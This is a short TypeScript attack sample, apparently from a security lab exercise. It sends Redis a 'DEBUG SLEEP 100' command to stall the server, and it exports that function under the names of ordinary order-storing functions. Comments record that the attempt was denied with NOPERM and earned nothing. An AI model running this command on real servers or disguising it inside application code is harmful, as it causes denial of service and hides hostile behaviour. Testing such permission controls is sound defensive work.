// tries: making Redis sleep
// lab: 03
// earns: 0
// told: NOPERM|not allowed
async function attack({ redis }: any): Promise<void> {
  await redis.call('DEBUG', 'SLEEP', '100');
}

export const addOrderToRedisFieldByField = attack;
export const addOrderToRedis = attack;
